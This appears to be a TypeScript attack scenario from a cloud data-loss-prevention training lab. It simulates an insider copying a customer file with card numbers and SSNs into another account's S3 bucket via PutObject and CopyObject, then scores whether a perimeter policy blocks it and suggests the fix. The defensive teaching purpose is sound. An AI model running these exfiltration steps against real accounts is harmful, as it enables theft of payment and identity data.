// Lab dlp: an insider (a data analyst's session, from the office) reads the customer master file, card
// numbers and all, and copies it into a bucket of an account outside the company — uploaded (PutObject)
// and copied server-side (CopyObject). The outside bucket takes whatever the company's account drops in
// it; only a perimeter on the company's side (the analysts may write to the company's own buckets only,
// aws:ResourceAccount) stops it. Blocked when nothing landed in the outside bucket.
import { S3Client, GetObjectCommand, PutObjectCommand, CopyObjectCommand, ListObjectsV2Command, DeleteObjectCommand } from '@aws-sdk/client-s3';
import type { AttackStep, Scenario, ScenarioResult } from '../src/engine/types.ts';
import type { LabSession } from '../src/engine/session.ts';
import { dlpEnv } from '../labs/dlp/company.ts';
import { clientAs, companyActors } from '../labs/dlp/actors.ts';
import { attempt } from './lib/attack.ts';
import { ownCredentialsFailed, runOf, startOfWeek } from './lib/dlp.ts';

interface State { prefix: string; bucket: string; customerFile: string }

function outsideS3(session: LabSession): S3Client {
  const o = companyActors(session).outsider();
  return session.client(S3Client, { credentials: o.credentials, sourceIp: o.sourceIp });
}

async function landed(session: LabSession, st: State): Promise<string[]> {
  const got = await outsideS3(session).send(new ListObjectsV2Command({ Bucket: st.bucket, Prefix: st.prefix }));
  return (got.Contents ?? []).map((c) => c.Key!);
}

export const cardCopyOutsideScenario: Scenario = {
  id: 'dlp-card-copy-outside',
  title: 'An insider copies card data into another account\'s bucket',
  description: 'A data analyst\'s session, from the office, reads the customer master file (card numbers, SSNs) and uploads it to a bucket of an outside account, then copies it there server-side with CopyObject.',
  techniques: ['T1537', 'T1530'],
  detections: ['CloudTrail: PutObject/CopyObject by contoso-analyst into a bucket of another account', 'Macie policy finding: S3BucketSharedExternally (on the receiving side)'],
  points: { blocked: 5 },
  tasks: { blocked: 'perimeter' },
  async prepare(session): Promise<State> {
    await startOfWeek(session);
    const env = dlpEnv(session.env);
    const { tag } = runOf(session, 'dlp-card-copy-outside');
    const outsider = companyActors(session).outsider();
    const customerFile = env.objects.customerData.find((k) => k.endsWith('.csv')) ?? env.objects.customerData[0]!;
    return { prefix: `loot/${tag}/`, bucket: outsider.bucket, customerFile };
  },
  async inject(session, state): Promise<AttackStep[]> {
    const st = state as State;
    const env = dlpEnv(session.env);
    const s3 = clientAs(session, S3Client, companyActors(session).analyst());
    const steps: AttackStep[] = [];
    let data: Uint8Array | undefined;
    steps.push(await attempt(session, `the insider reads s3://${env.buckets.customerData}/${st.customerFile}`, async () => {
      data = await (await s3.send(new GetObjectCommand({ Bucket: env.buckets.customerData, Key: st.customerFile }))).Body!.transformToByteArray();
    }));
    // Without the file in hand the upload carries a line of it as the attacker remembers it; the copy needs no read.
    steps.push(await attempt(session, `the insider uploads it to the outside account's bucket s3://${st.bucket}/${st.prefix}customers.csv`, () =>
      s3.send(new PutObjectCommand({ Bucket: st.bucket, Key: `${st.prefix}customers.csv`, Body: data ?? 'customer_id,card_number\n', ContentType: 'text/csv' }))));
    steps.push(await attempt(session, `the insider copies it there server-side (CopyObject to s3://${st.bucket}/${st.prefix}customers-copy.csv)`, () =>
      s3.send(new CopyObjectCommand({ Bucket: st.bucket, Key: `${st.prefix}customers-copy.csv`, CopySource: `${env.buckets.customerData}/${st.customerFile}` }))));
    // Nothing landing because the analyst's session had expired would be no perimeter.
    ownCredentialsFailed(steps);
    return steps;
  },
  async observe(session, steps, state): Promise<ScenarioResult> {
    const st = state as State;
    const keys = await landed(session, st);
    const blocked = keys.length === 0;
    return {
      blocked, detected: false, steps,
      evidence: keys.length ? keys.map((k) => `in the outside account's bucket: s3://${st.bucket}/${k}`) : [`nothing under s3://${st.bucket}/${st.prefix}`],
      feedback: blocked
        ? `blocked: nothing landed in the outside account's bucket (${steps.slice(1).map((s) => `${s.description.split(' (')[0]!.replace(/^the insider /, '')}: ${s.allowed ? 'accepted' : s.errorCode}`).join('; ')})`
        : `not blocked: the analyst's session wrote ${keys.length} object(s) with card data into another account's bucket. Deny the analysts s3:PutObject (and the other writes) where aws:ResourceAccount is not ${dlpEnv(session.env).accountId} (a Deny in their role, or a permissions boundary)`,
    };
  },
  async revert(session, state) {
    const st = state as State | undefined;
    if (!st) return;
    const s3 = outsideS3(session);
    for (const k of await landed(session, st).catch(() => [] as string[])) await s3.send(new DeleteObjectCommand({ Bucket: st.bucket, Key: k })).catch(() => undefined);
  },
};
